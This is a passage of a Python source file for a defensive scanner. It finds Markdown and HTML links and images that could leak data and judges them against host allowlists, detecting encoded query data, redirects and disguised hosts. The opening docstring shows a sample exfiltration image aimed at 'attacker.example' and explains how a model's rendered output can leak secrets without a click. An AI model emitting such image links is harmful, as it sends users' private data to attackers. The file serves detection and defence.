"""Links and images in Markdown, HTML and plain text, judged against host and scheme allowlists.

A Markdown image (``![x](https://attacker.example/?q=<secret>)``) makes the reader's browser send
its URL the moment it renders, so model output can leak what the model saw without a click. The
scanner here finds every link and image form a Markdown renderer turns into a request, and the
rules decide which of them may stay. :class:`Links` reports the bad ones; ``SafeMarkdown`` reuses
the same scanner to rewrite them.
"""

from __future__ import annotations

import functools
import re
import unicodedata
from bisect import bisect_right
from collections.abc import Iterable, Sequence
from typing import NamedTuple

from guardkit._errors import ConfigError
from guardkit._types import Action, Finding

__all__ = ["Links"]

#: Longest URL (and longest construct) judged; longer ones are flagged, so a stream that holds back
#: this many characters never releases part of a link before it is judged.
DEFAULT_MAX_LENGTH = 2048

#: Schemes whose URLs have a host (WHATWG "special" schemes, which also accept backslashes).
_SPECIAL = frozenset(("http", "https", "ftp", "ws", "wss", "file"))
_FETCH_SCHEMES = frozenset(("http", "https"))

_TITLE_CLOSE = {'"': '"', "'": "'", "(": ")"}
#: Controls, spaces and default-ignorable characters: browsers drop or reject them in hosts.
_IGNORABLE_CHARS = (
    "[\x00-\x20\x7f-\xa0\xad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f"
    "\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufffb]"
)
_TRAILING = "?!.,:;*_~"
_C0_SPACE = "".join(chr(c) for c in range(33))
_DOTS = str.maketrans({"\u3002": ".", "\uff0e": ".", "\uff61": "."})

_WS: re.Pattern[str]
_ANGLE_BODY: re.Pattern[str]
_RAW_DEST: re.Pattern[str]
_RAW_DEST_OPEN_PAREN: re.Pattern[str]
_BRACKETS: re.Pattern[str]
_LABEL: re.Pattern[str]
_DEFINITION: re.Pattern[str]
_AUTOLINK: re.Pattern[str]
_TAG_NAME: re.Pattern[str]
_TAG_SPACE: re.Pattern[str]
_ATTR_NAME: re.Pattern[str]
_SPACES: re.Pattern[str]
_UNQUOTED: re.Pattern[str]
_CSS_URL: re.Pattern[str]
_META_URL: re.Pattern[str]
_BARE: re.Pattern[str]
_WWW: re.Pattern[str]
_CSS_URL_BEFORE: re.Pattern[str]
_SCHEME: re.Pattern[str]
_TAB_NL: re.Pattern[str]
_PERCENT_RUN: re.Pattern[str]
_IGNORABLE: re.Pattern[str]
_IPV4_PART: re.Pattern[str]
_HEX_RUN: re.Pattern[str]
_B64_RUN: re.Pattern[str]
_QUERY_SPLIT: re.Pattern[str]
_ESCAPABLE: re.Pattern[str]
_NESTED_URL: re.Pattern[str]
_TITLE_BODY: dict[str, re.Pattern[str]]
_READY = False


def _compile() -> None:
    """Compile the patterns once, on first use: about 4 ms that ``import guardkit`` does not pay."""
    global _WS, _ANGLE_BODY, _RAW_DEST, _RAW_DEST_OPEN_PAREN, _BRACKETS, _LABEL  # noqa: PLW0603
    global _DEFINITION, _AUTOLINK, _TAG_NAME, _TAG_SPACE, _ATTR_NAME, _SPACES  # noqa: PLW0603
    global _UNQUOTED, _CSS_URL, _META_URL, _BARE, _WWW, _CSS_URL_BEFORE, _SCHEME  # noqa: PLW0603
    global _TAB_NL, _PERCENT_RUN, _IGNORABLE, _IPV4_PART, _HEX_RUN, _B64_RUN  # noqa: PLW0603
    global _QUERY_SPLIT, _ESCAPABLE, _NESTED_URL, _TITLE_BODY, _READY  # noqa: PLW0603
    if _READY:
        return
    # Inline link tail after "](": destination then optional title. Every alternation below starts
    # with a distinct character, so matching is linear.
    _WS = re.compile(r"[ \t]*(?:\n[ \t]*)?")
    _ANGLE_BODY = re.compile(r"(?:[^<>\n\\]|\\.)*")
    _RAW_DEST = re.compile(r"(?:[^\s()\\]|\\.|\((?:[^\s()\\]|\\.)*\))*")
    _RAW_DEST_OPEN_PAREN = re.compile(r"\((?:[^\s()\\]|\\.)*\\?\Z")
    _TITLE_BODY = {
        '"': re.compile(r'(?:[^"\\]|\\[\s\S])*'),
        "'": re.compile(r"(?:[^'\\]|\\[\s\S])*"),
        "(": re.compile(r"(?:[^()\\]|\\[\s\S])*"),
    }
    _BRACKETS = re.compile(r"\\[\s\S]|[\[\]]")
    _LABEL = re.compile(r"\[((?:[^\[\]\\]|\\.){0,999})\]")

    # Reference definitions, also inside block quotes and list items: "[label]: url".
    _DEFINITION = re.compile(
        r"^[ \t>*+\-\d.)]{0,40}?\[(?P<label>(?:[^\[\]\\\n]|\\.){1,999})\]:[ \t]*(?:\n[ \t>]*)?"
        r"(?P<url><[^<>\n]*>|[^\s<]\S*)",
        re.MULTILINE,
    )

    # "<scheme:...>" autolinks, complete or still open at the end of the text.
    _AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*)(>?)")
    _TAG_NAME = re.compile(r"<([A-Za-z][^\s/>\x00]*)")
    _TAG_SPACE = re.compile(r"[\s/]*")
    _ATTR_NAME = re.compile(r"[^\s/>][^\s/>=]*")
    _SPACES = re.compile(r"\s*")
    _UNQUOTED = re.compile(r"[^\s>]*")
    _CSS_URL = re.compile(r"""url\(\s*(["']?)([^"')\s]*)""", re.IGNORECASE)
    _META_URL = re.compile(r"url\s*=\s*['\"]?([^'\"\s;]+)", re.IGNORECASE)

    # Bare URLs as GFM and linkify turn them into links: http(s)/ftp URLs and "www." hosts.
    _BARE = re.compile(
        r"(?<![A-Za-z0-9])(?:(?:https?|ftp)://|www\.)[^\s<>\"'`\]]{0,4200}", re.IGNORECASE
    )
    _WWW = re.compile(r"www\.", re.IGNORECASE)
    _CSS_URL_BEFORE = re.compile(r"url\(\s*[\"']?\Z", re.IGNORECASE)

    _SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.\-]*):")
    _TAB_NL = re.compile(r"[\t\n\r]")
    _PERCENT_RUN = re.compile(r"(?:%[0-9A-Fa-f]{2})+")
    _IGNORABLE = re.compile(_IGNORABLE_CHARS)
    _IPV4_PART = re.compile(r"0x[0-9a-f]*|\d+", re.IGNORECASE)
    _HEX_RUN = re.compile(r"[0-9A-Fa-f]+")
    _B64_RUN = re.compile(r"[A-Za-z0-9+/_\-]+=*")
    _QUERY_SPLIT = re.compile(r"[&;]")
    _ESCAPABLE = re.compile(r"\\([!-/:-@\[-`{-~])")
    _NESTED_URL = re.compile(r"(?:[a-z][a-z0-9+.\-]*:)?//", re.IGNORECASE)
    _READY = True


# HTML attributes that carry URLs, and which of them the browser fetches without a click.
_URL_ATTRS = frozenset(
    (
        "href", "src", "srcset", "poster", "background", "action", "formaction", "data",
        "xlink:href", "lowsrc", "dynsrc", "ping", "manifest", "codebase", "archive", "icon",
        "longdesc", "cite", "style", "content", "imagesrcset",
    )
)
_LINK_ATTRS = frozenset(("href", "action", "formaction", "cite", "longdesc", "ping"))
_FETCH_HREF_TAGS = frozenset(("link", "image", "use", "feimage", "base", "script"))
_FETCH_TAGS = frozenset(
    (
        "img", "image", "picture", "source", "video", "audio", "track", "input", "embed",
        "object", "iframe", "frame", "link", "meta", "script", "style", "body", "table", "td",
        "th", "svg", "use", "feimage", "base",
    )
)

_URL_TAGS = _FETCH_TAGS | frozenset(("a", "area", "form", "button", "blockquote", "q", "del", "ins"))

# Scripts that may share a host name (UTS #39 "highly restrictive" combinations).
_SCRIPT_SETS = (
    frozenset(("LATIN", "CJK", "HIRAGANA", "KATAKANA")),
    frozenset(("LATIN", "CJK", "BOPOMOFO")),
    frozenset(("LATIN", "CJK", "HANGUL")),
)


class _Hit:
    """One link-like construct found in the text (internal)."""

    __slots__ = (
        "children",
        "deep",
        "end",
        "fetch",
        "form",
        "label",
        "label_end",
        "partial",
        "reasons",
        "start",
        "text_end",
        "text_start",
        "urls",
    )

    def __init__(
        self,
        form: str,
        start: int,
        end: int,
        urls: tuple[str, ...],
        *,
        fetch: bool,
        partial: bool = False,
        text_span: tuple[int, int] = (-1, -1),
        label: str | None = None,
    ) -> None:
        self.form = form
        self.start = start
        self.end = end
        self.urls = urls
        self.fetch = fetch
        self.partial = partial
        self.text_start, self.text_end = text_span
        self.label = label
        self.label_end = -1
        self.reasons: tuple[str, ...] = ()
        self.children: list[_Hit] = []
        self.deep = False


class _Usage(NamedTuple):
    """A reference-style use of a definition: ``[text][label]``, ``![alt][label]`` or ``[label]``."""

    label: str
    start: int
    end: int
    text_start: int
    text_end: int
    image: bool


def _normalize_label(label: str) -> str:
    return " ".join(label.split()).casefold()


def _unescape_md(url: str) -> str:
    """Undo Markdown backslash escapes and character references in a link destination."""
    if "\\" in url:
        url = _ESCAPABLE.sub(r"\1", url)
    if "&" in url:
        import html

        url = html.unescape(url)
    return url


def _percent_decode(text: str) -> str:
    def decode(m: re.Match[str]) -> str:
        return bytes.fromhex(m.group().replace("%", "")).decode("utf-8", "replace")

    return _PERCENT_RUN.sub(decode, text)


# --------------------------------------------------------------------------------------------
# Scanning
# --------------------------------------------------------------------------------------------


def _inline_tail(text: str, pos: int) -> tuple[int, str, bool] | None:
    """Parse ``dest "title")`` starting at *pos* (just after ``](``).

    Returns ``(end, raw_destination, partial)`` or ``None`` when this is not an inline link.
    ``partial`` means the text ended before the construct closed.
    """
    n = len(text)
    pos = _WS.match(text, pos).end()  # type: ignore[union-attr]
    if pos >= n:
        return n, "", True
    if text[pos] == "<":
        q = _ANGLE_BODY.match(text, pos + 1).end()  # type: ignore[union-attr]
        if q >= n or (q == n - 1 and text[q] == "\\"):
            return n, text[pos + 1 : q], True
        if text[q] != ">":
            return None
        dest = text[pos + 1 : q]
        pos = q + 1
    else:
        q = _RAW_DEST.match(text, pos).end()  # type: ignore[union-attr]
        if q >= n:
            return n, text[pos:q], True
        c = text[q]
        if (c == "(" and _RAW_DEST_OPEN_PAREN.match(text, q)) or (c == "\\" and q == n - 1):
            return n, text[pos:n], True
        dest = text[pos:q]
        pos = q
    after = _WS.match(text, pos).end()  # type: ignore[union-attr]
    if after >= n:
        return n, dest, True
    c = text[after]
    if c == ")":
        return after + 1, dest, False
    if after == pos or c not in _TITLE_BODY:
        return None
    q = _TITLE_BODY[c].match(text, after + 1).end()  # type: ignore[union-attr]
    if q >= n:
        return n, dest, True
    if text[q] != _TITLE_CLOSE[c]:
        return None
    pos = _WS.match(text, q + 1).end()  # type: ignore[union-attr]
    if pos >= n:
        return n, dest, True
    if text[pos] != ")":
        return None
    return pos + 1, dest, False


def _escaped(text: str, i: int) -> bool:
    """Whether the character at *i* is backslash-escaped (odd run of backslashes before it)."""
    j = i
    while j > 0 and text[j - 1] == "\\":
        j -= 1
    return (i - j) % 2 == 1


def _scan_brackets(text: str, hits: list[_Hit], usages: list[_Usage], window: int) -> None:
    """Find inline links and images, and reference usages (``[t][r]``, ``![a][r]``, ``[r]``)."""
    stack: list[int] = []
    pos = 0
    search = _BRACKETS.search
    n = len(text)
    while True:
        m = search(text, pos)
        if m is None:
            return
        pos = m.end()
        token = m.group()
        if token == "[":
            stack.append(m.start())
            continue
        if token != "]" or not stack:
            continue
        close = m.start()
        opener = stack.pop()
        image = opener > 0 and text[opener - 1] == "!" and not _escaped(text, opener - 1)
        start = opener - 1 if image else opener
        nxt = text[close + 1] if close + 1 < n else ""
        if nxt == "(":
            tail = _inline_tail(text, close + 2)
            if tail is not None:
                end, raw, partial = tail
                text_span = (opener + 1, close)
                if close - start > window // 2:
                    # Very long link text: judge the destination part only, so spans stay short.
                    start, text_span = close, (close, close)
                hits.append(
                    _Hit(
                        "markdown image" if image else "markdown link",
                        start,
                        end,
                        (raw,),
                        fetch=image,
                        partial=partial,
                        text_span=text_span,
                    )
                )
                # Openers stay on the stack: "![a [b](c)](u)" is still an image of u.
                pos = end
                continue
        if nxt == "[":
            lm = _LABEL.match(text, close + 1)
            if lm is not None:
                label = lm.group(1) or text[opener + 1 : close]
                usages.append(
                    _Usage(_normalize_label(label), start, lm.end(), opener + 1, close, image)
                )
                continue  # "[t]" may still open an inline link: "[x][t](u)"
        if nxt != ":" and close - opener <= 1000:
            label = text[opener + 1 : close]
            usages.append(_Usage(_normalize_label(label), start, close + 1, opener + 1, close, image))


def _scan_definitions(text: str, hits: list[_Hit]) -> None:
    if "]:" not in text:
        return
    for m in _DEFINITION.finditer(text):
        url = m.group("url")
        if url.startswith("<"):
            url = url[1:-1]
        hit = _Hit(
            "reference definition",
            m.start("label") - 1,
            m.end("url"),
            (url,),
            fetch=False,
            label=_normalize_label(m.group("label")),
        )
        hit.label_end = m.end("label")
        hits.append(hit)


def _tag_urls(tag: str, attrs: list[tuple[str, str]]) -> tuple[list[str], bool]:
    """The URLs a tag's attributes carry, and whether the browser fetches any of them unasked."""
    urls: list[str] = []
    fetch = False
    refresh = any(n == "http-equiv" and v.strip().lower() == "refresh" for n, v in attrs)
    for name, raw in attrs:
        if name not in _URL_ATTRS:
            continue
        value = _unescape_md(raw) if "&" in raw else raw
        if name == "style":
            found = [m.group(2) for m in _CSS_URL.finditer(value)]
            urls.extend(found)
            fetch = fetch or bool(found)
        elif name == "content":
            if refresh:
                m = _META_URL.search(value)
                if m is not None:
                    urls.append(m.group(1))
                    fetch = True
        elif name in ("srcset", "imagesrcset"):
            for candidate in value.split(","):
                parts = candidate.split()
                if parts:
                    urls.append(parts[0])
            fetch = True
        else:
            urls.append(value)
            if name not in _LINK_ATTRS or tag in _FETCH_HREF_TAGS:
                fetch = True
    return urls, fetch


def _html_form(tag: str) -> str:
    """The form name of a tag for ``Finding.detail``: known names only, never text from the input."""
    return f"html {tag}" if tag in _URL_TAGS else "html tag"


def _scan_angles(text: str, hits: list[_Hit], window: int) -> None:  # noqa: PLR0915 - tokenizer
    """Find autolinks and HTML tags that carry URLs."""
    n = len(text)
    pos = text.find("<")
    while 0 <= pos < n:
        if text.startswith("<!--", pos):
            close = text.find("-->", pos + 4)
            if close < 0:
                return
            pos = text.find("<", close + 3)
            continue
        m = _AUTOLINK.match(text, pos)
        if m is not None and (m.group(2) or m.end() == n):
            hits.append(
                _Hit("autolink", pos, m.end(), (m.group(1),), fetch=False, partial=not m.group(2))
            )
            pos = text.find("<", m.end())
            continue
        m = _TAG_NAME.match(text, pos)
        if m is None:
            pos = text.find("<", pos + 1)
            continue
        tag = m.group(1).lower()
        attrs: list[tuple[str, str]] = []
        q = m.end()
        end = -1
        while True:
            q = _TAG_SPACE.match(text, q).end()  # type: ignore[union-attr]
            if q >= n:
                break
            if text[q] == ">":
                end = q + 1
                break
            am = _ATTR_NAME.match(text, q)
            if am is None:  # cannot happen: the class excludes only what was skipped
                q += 1
                continue
            name = am.group().lower()
            q = _SPACES.match(text, am.end()).end()  # type: ignore[union-attr]
            value = ""
            if q < n and text[q] == "=":
                q = _SPACES.match(text, q + 1).end()  # type: ignore[union-attr]
                if q >= n:
                    break
                quote = text[q]
                if quote in "\"'":
                    close = text.find(quote, q + 1)
                    if close < 0:
                        attrs.append((name, text[q + 1 :]))
                        q = n
                        break
                    value = text[q + 1 : close]
                    q = close + 1
                else:
                    vm = _UNQUOTED.match(text, q)
                    value = vm.group()  # type: ignore[union-attr]
                    q = vm.end()  # type: ignore[union-attr]
            attrs.append((name, value))
        if end < 0:
            # Still open at the end of the text. Report it (so a stream holds it until it is
            # complete) when it already carries a URL attribute, or when it is a tag that can carry
            # one and is short enough to be a tag still being written, not a stray "<" in prose.
            urls, fetch = _tag_urls(tag, attrs)
            has_url_attr = any(name in _URL_ATTRS for name, _ in attrs)
            if has_url_attr or (tag in _URL_TAGS and n - pos <= window):
                hits.append(
                    _Hit(
                        _html_form(tag),
                        pos,
                        n,
                        tuple(urls),
                        fetch=fetch or tag in _FETCH_TAGS,
                        partial=True,
                    )
                )
            return
        urls, fetch = _tag_urls(tag, attrs)
        if urls:
            hits.append(_Hit(_html_form(tag), pos, end, tuple(urls), fetch=fetch))
        pos = text.find("<", end)


def _bare_starts(text: str) -> list[int]:
    """Offsets where a bare URL may start: ``http(s)://`` and ``ftp://`` schemes and ``www.``,
    not preceded by an ASCII letter or digit. Found with ``str.find``, which is much faster than
    letting a case-insensitive pattern try every offset."""
    lower = text.lower() if not text.islower() else text
    found = []
    i = lower.find("://")
    while i >= 0:
        for scheme in ("https", "http", "ftp"):
            start = i - len(scheme)
            if start >= 0 and lower.startswith(scheme, start):
                if start == 0 or not (text[start - 1].isascii() and text[start - 1].isalnum()):
                    found.append(start)
                break
        i = lower.find("://", i + 3)
    i = lower.find("www.")
    while i >= 0:
        if i == 0 or not (text[i - 1].isascii() and text[i - 1].isalnum()):
            found.append(i)
        i = lower.find("www.", i + 4)
    found.sort()
    return found


def _scan_bare(text: str, hits: list[_Hit], covered: list[tuple[int, int]]) -> None:
    starts = [s for s, _ in covered]
    ends = [e for _, e in covered]
    # Running maximum of ends, so "is this offset inside any covered span" is one bisect.
    reach: list[int] = []
    top = -1
    for e in ends:
        top = max(top, e)
        reach.append(top)
    last_end = -1
    for start in _bare_starts(text):
        if start < last_end:
            continue
        i = bisect_right(starts, start) - 1
        if i >= 0 and reach[i] > start:
            continue
        m = _BARE.match(text, start)
        if m is None:
            continue
        last_end = m.end()
        url = m.group()
        # Trailing punctuation is not part of the URL (GFM rules), nor an unbalanced ')'.
        while url:
            last = url[-1]
            if last in _TRAILING or (last == ")" and url.count(")") > url.count("(")):
                url = url[:-1]
            else:
                break
        if len(url) <= 4 and url.lower().startswith("www."):
            continue
        fetch = _CSS_URL_BEFORE.search(text, max(0, start - 16), start) is not None
        if url[:4].lower() == "www.":
            hits.append(_Hit("bare url", start, start + len(url), ("http://" + url,), fetch=fetch))
        else:
            hits.append(_Hit("bare url", start, start + len(url), (url,), fetch=fetch))


def _scan(text: str, window: int) -> list[_Hit]:
    """Every link-like construct in *text*, as a forest: hits inside another hit's link text
    (an image inside a link, a URL shown as link text) are its children.

    Reference-style images (``![alt][label]``) are hits without URLs; their URL lives in the
    definition, which is a hit of its own.
    """
    hits: list[_Hit] = []
    usages: list[_Usage] = []
    if "]" in text:
        _scan_brackets(text, hits, usages, window)
        _scan_definitions(text, hits)
    if "<" in text:
        _scan_angles(text, hits, window)
    if "://" in text or _WWW.search(text):
        covered: list[tuple[int, int]] = []
        for hit in hits:
            if hit.text_start >= 0:  # link text is text: URLs shown there are judged too
                covered.append((hit.start, hit.text_start))
                covered.append((hit.text_end, hit.end))
            else:
                covered.append((hit.start, hit.end))
        covered.sort()
        _scan_bare(text, hits, covered)
    image_labels = {u.label for u in usages if u.image}
    link_labels = {u.label for u in usages if not u.image}
    for hit in hits:
        if hit.form == "reference definition":
            # Judged as an image when an image uses it, or when no use is visible at all (it may
            # lie outside the text checked, e.g. earlier in a stream).
            hit.fetch = hit.label in image_labels or hit.label not in link_labels
            if hit.label in image_labels:
                hit.form = "reference definition (image)"
    hits.extend(
        _Hit(
            "reference image",
            u.start,
            u.end,
            (),
            fetch=True,
            text_span=(u.text_start, u.text_end),
            label=u.label,
        )
        for u in usages
        if u.image
    )
    return _nest(hits)


#: Deepest nesting of links in link text that is followed; deeper constructs are flagged whole.
_MAX_DEPTH = 32


def _nest(hits: list[_Hit]) -> list[_Hit]:
    """Attach hits inside another hit's link text to it; drop hits overlapping a URL part."""
    hits.sort(key=lambda h: (h.start, -h.end))
    roots: list[_Hit] = []
    stack: list[_Hit] = []
    for hit in hits:
        while stack and hit.start >= stack[-1].end:
            stack.pop()
        if not stack:
            roots.append(hit)
            stack.append(hit)
            continue
        parent = stack[-1]
        if parent.text_start <= hit.start and hit.end <= parent.text_end:
            if len(stack) >= _MAX_DEPTH:
                parent.deep = True  # judged and replaced as a whole, children unseen
                continue
            parent.children.append(hit)
            stack.append(hit)
        # Anything else overlaps the parent's destination or markup: the parent covers it.
    return roots


# --------------------------------------------------------------------------------------------
# Judging
# --------------------------------------------------------------------------------------------


def _normalize_host(host: str) -> str:
    """Lowercase ASCII form of a host, as a browser would resolve it (best effort)."""
    if "%" in host:
        host = _percent_decode(host)
    if not host.isascii() or not host.isprintable():
        host = _IGNORABLE.sub("", host)
        host = unicodedata.normalize("NFKC", host).translate(_DOTS)
    host = host.lower().rstrip(".")
    if host.isascii():
        return host
    labels = []
    for label in host.split("."):
        if label.isascii():
            labels.append(label)
        else:
            try:
                labels.append("xn--" + label.encode("punycode").decode("ascii"))
            except UnicodeError:
                labels.append(label)
    return ".".join(labels)


def _ipv4(host: str) -> str | None:
    """Dotted form of *host* when a browser would read it as an IPv4 address, else ``None``."""
    parts = host.split(".")
    if not parts or not _IPV4_PART.fullmatch(parts[-1]):
        return None
    if len(parts) > 4:
        return "invalid"
    numbers = []
    for part in parts:
        if not _IPV4_PART.fullmatch(part):
            return "invalid"
        try:
            if part[:2].lower() == "0x":
                numbers.append(int(part[2:] or "0", 16))
            elif len(part) > 1 and part[0] == "0":
                numbers.append(int(part, 8))
            else:
                numbers.append(int(part))
        except ValueError:
            return "invalid"
    value = 0
    for number in numbers[:-1]:
        if number > 255:
            return "invalid"
        value = value * 256 + number
    rest = 4 - (len(numbers) - 1)
    if numbers[-1] >= 256**rest:
        return "invalid"
    value = value * 256**rest + numbers[-1]
    return ".".join(str((value >> shift) & 255) for shift in (24, 16, 8, 0))


def _scripts(host: str) -> set[str]:
    found = set()
    for char in host:
        if char.isalpha() and not char.isascii():
            try:
                found.add(unicodedata.name(char).split(" ", 1)[0])
            except ValueError:
                found.add("UNKNOWN")
        elif char.isalpha():
            found.add("LATIN")
    return found


def _decode_punycode(host: str) -> str:
    try:
        return ".".join(
            label[4:].encode("ascii").decode("punycode") if label.startswith("xn--") else label
            for label in host.split(".")
        )
    except UnicodeError:
        return host


def _mixed_script(host: str) -> bool:
    scripts = _scripts(host)
    if len(scripts) <= 1:
        return False
    return not any(scripts <= allowed for allowed in _SCRIPT_SETS)


def _looks_encoded(value: str, limit: int) -> bool:
    """Whether *value* holds a hex, base32 or base64-like run of at least *limit* characters.

    Base64 runs must mix digits, upper and lower case; lower-case runs (base32, DNS labels)
    must hold at least four digits. Words, UUIDs and slugs do not qualify.
    """
    if len(value) < limit:
        return False
    for m in _HEX_RUN.finditer(value):
        if m.end() - m.start() >= limit:
            return True
    for m in _B64_RUN.finditer(value):
        run = m.group()
        if len(run) < limit:
            continue
        digits = sum(c.isdigit() for c in run)
        if digits and any(c.isupper() for c in run) and any(c.islower() for c in run):
            return True
        if digits >= 4 and "-" not in run and (run.islower() or run.isupper()):
            return True
    return False


class _Rules:
    """Precomputed allowlists and the judging logic shared by ``Links`` and ``SafeMarkdown``."""

    __slots__ = (
        "_cached",
        "any_host",
        "any_image_host",
        "domains",
        "image_domains",
        "image_schemes",
        "max_length",
        "max_query_data",
        "schemes",
    )

    def __init__(
        self,
        *,
        allow_domains: Iterable[str] | None,
        image_domains: Iterable[str] | None,
        allow_schemes: Iterable[str],
        max_query_data: int,
        max_length: int,
    ) -> None:
        _compile()
        self.schemes = _check_schemes(allow_schemes)
        self.image_schemes = self.schemes & _FETCH_SCHEMES
        if allow_domains is None:
            self.any_host, self.domains = True, frozenset[str]()
        else:
            self.any_host, self.domains = _check_domains(allow_domains, "allow_domains")
        if image_domains is None:
            self.any_image_host = False if allow_domains is None else self.any_host
            self.image_domains = self.domains
        else:
            self.any_image_host, self.image_domains = _check_domains(image_domains, "image_domains")
        if isinstance(max_query_data, bool) or not isinstance(max_query_data, int):
            raise ConfigError("max_query_data must be an int")
        if max_query_data < 8:
            raise ConfigError("max_query_data must be at least 8")
        if isinstance(max_length, bool) or not isinstance(max_length, int) or max_length < 64:
            raise ConfigError("max_length must be an int of at least 64")
        self.max_query_data = max_query_data
        self.max_length = max_length
        # Streams re-check the held-back window with every chunk, so the same URLs come back:
        # judgments depend only on (url, fetch) and these settings, never change, and are cached.
        self._cached = functools.lru_cache(maxsize=1024)(self._judge_url)

    @staticmethod
    def _matches(host: str, domains: frozenset[str]) -> bool:
        if host in domains:
            return True
        dot = host.find(".")
        while dot >= 0:
            if host[dot + 1 :] in domains:
                return True
            dot = host.find(".", dot + 1)
        return False

    def judge_url(self, raw: str, *, fetch: bool) -> tuple[str, ...]:
        """Reasons *raw* may not stay (empty when it may)."""
        return self._cached(raw, fetch)

    def _judge_url(self, raw: str, fetch: bool) -> tuple[str, ...]:
        reasons = self._judge_url_list(raw, fetch=fetch)
        return tuple(reasons)

    def _judge_url_list(self, raw: str, *, fetch: bool) -> list[str]:
        reasons: list[str] = []
        if len(raw) > self.max_length:
            reasons.append("too long")
        if not raw.isprintable() or " " in raw:
            reasons.append("control characters")
        url = _TAB_NL.sub("", raw.strip(_C0_SPACE))
        m = _SCHEME.match(url)
        if m is not None:
            scheme = m.group(1).lower()
            rest = url[m.end() :]
            if scheme not in (self.image_schemes if fetch else self.schemes):
                reasons.append("scheme not allowed")
                return reasons
            if scheme in _SPECIAL:
                rest = rest.lstrip("/\\")
            elif rest.startswith("//"):
                rest = rest[2:]
            else:
                return reasons  # mailto:, tel: ... carry no host to judge
        elif url[:2] in ("//", "\\\\", "/\\", "\\/"):
            rest = url.lstrip("/\\")
        else:
            return reasons  # relative: resolves against the page's own origin
        self._judge_authority(rest, fetch=fetch, reasons=reasons)
        return reasons

    def _judge_authority(self, rest: str, *, fetch: bool, reasons: list[str]) -> None:
        cut = len(rest)
        for delimiter in "/\\?#":
            i = rest.find(delimiter)
            if 0 <= i < cut:
                cut = i
        authority, tail = rest[:cut], rest[cut:]
        if "@" in authority:
            reasons.append("userinfo")
            authority = authority.rpartition("@")[2]
        raw_host = authority
        if authority.startswith("["):
            host = authority[: authority.find("]") + 1] if "]" in authority else authority
            ip: str | None = host.lower()
        else:
            host = raw_host = authority.split(":", 1)[0]
            if "%" in host:
                reasons.append("encoded host")
            host = _normalize_host(host)
            ip = _ipv4(host)
        domains = self.image_domains if fetch else self.domains
        any_host = self.any_image_host if fetch else self.any_host
        explicit = False
        if ip is not None:
            explicit = ip != "invalid" and ip in domains
            if not explicit:
                reasons.append("ip address host")
        elif host:
            explicit = self._matches(host, domains)
        if not explicit and ip is None:
            if not any_host:
                reasons.append("image host not allowed" if fetch else "host not allowed")
            if any(label.startswith("xn--") for label in host.split(".")):
                reasons.append("punycode host")
                if _mixed_script(_decode_punycode(host)):
                    reasons.append("mixed-script host")
            if any_host and any(
                _looks_encoded(label, self.max_query_data) for label in raw_host.split(".")
            ):
                reasons.append("encoded data")
        if (fetch or (any_host and not explicit)) and "?" in tail:
            self._judge_query(tail, fetch=fetch, reasons=reasons)

    def _judge_query(self, tail: str, *, fetch: bool, reasons: list[str]) -> None:
        """Flag encoded data in the query string, and (for images) URLs nested in it."""
        query = tail.split("?", 1)[1].split("#", 1)[0]
        if "%" in query or "+" in query:
            query = _percent_decode(query.replace("+", " "))
        for part in _QUERY_SPLIT.split(query):
            value = part.partition("=")[2] or part
            if _looks_encoded(value, self.max_query_data):
                reasons.append("encoded data")
                return
            if fetch and _NESTED_URL.match(value.strip()):
                reasons.append("redirect")
                return

    def judge(self, hit: _Hit) -> tuple[str, ...]:
        """Set and return the reasons *hit* may not stay."""
        reasons: list[str] = []
        if hit.partial:
            reasons.append("incomplete")
        if hit.deep:
            reasons.append("nested too deeply")
        if hit.end - hit.start > self.max_length:
            reasons.append("too long")
        for raw in hit.urls:
            url = raw if hit.form.startswith(("html", "bare")) else _unescape_md(raw)
            for reason in self.judge_url(url, fetch=hit.fetch):
                if reason not in reasons:
                    reasons.append(reason)
        hit.reasons = tuple(reasons)
        return hit.reasons


def _check_schemes(schemes: Iterable[str]) -> frozenset[str]:
    if isinstance(schemes, str):
        raise ConfigError("allow_schemes must be a collection of scheme names, not one string")
    out = set()
    for scheme in schemes:
        if not isinstance(scheme, str) or not re.fullmatch(r"[A-Za-z][A-Za-z0-9+.\-]*", scheme):
            raise ConfigError(f"allow_schemes: {scheme!r} is not a URL scheme name")
        out.add(scheme.lower())
    return frozenset(out)


def _check_domains(domains: Iterable[str], argument: str) -> tuple[bool, frozenset[str]]:
    _compile()
    if isinstance(domains, str):
        raise ConfigError(f"{argument} must be a collection of host names, not one string")
    any_host = False
    out = set()
    for domain in domains:
        if not isinstance(domain, str) or not domain.strip():
            raise ConfigError(f"{argument}: expected non-empty host names, got {domain!r}")
        entry = domain.strip()
        if entry == "*":
            any_host = True
            continue
        if entry.startswith("*."):
            raise ConfigError(
                f"{argument}: write {entry[2:]!r}, not {entry!r}: an entry already covers "
                "its subdomains"
            )
        if any(c in entry for c in "/?#@ ") or "://" in entry:
            raise ConfigError(f"{argument}: expected a host name like 'example.com', got {entry!r}")
        if entry.startswith("["):
            out.add(entry.lower())
            continue
        if ":" in entry:
            out.add("[" + entry.lower() + "]")
            continue
        host = _normalize_host(entry)
        ip = _ipv4(host)
        if ip == "invalid":
            raise ConfigError(f"{argument}: {entry!r} is neither a host name nor an IP address")
        out.add(ip or host)
    return any_host, frozenset(out)


def _check_action(action: str) -> str:
    try:
        parsed = Action.parse(action)
    except ValueError:
        raise ConfigError(
            f"action must be 'block', 'redact' or 'warn', got {action!r}"
        ) from None
    if parsed is Action.ALLOW:
        raise ConfigError("action must be 'block', 'redact' or 'warn', got 'allow'")
    return str(parsed)


def _check_name(name: str) -> str:
    if not isinstance(name, str) or not name:
        raise ConfigError("name must be a non-empty string")
    return name


def _walk(hits: Sequence[_Hit]) -> Iterable[_Hit]:
    for hit in hits:
        yield hit
        if hit.children:
            yield from _walk(hit.children)


class Links:
    """Flag links and images that point off the allowlist or look like a data-exfiltration channel.

    Finds Markdown inline links and images (``[t](u)``, ``![a](u)``), reference-style links and
    images with their definitions (``[t][r]`` + ``[r]: u``), autolinks (``<https://...>``), raw
    HTML tags carrying URLs (``<a href>``, ``<img src>``, ``srcset``, ``style="...url()"``,
    ``<meta http-equiv=refresh>``) and bare URLs (``https://...``, ``www.``). Images, and anything
    else a browser fetches without a click, are reported as ``EXFIL_IMAGE``; other links as
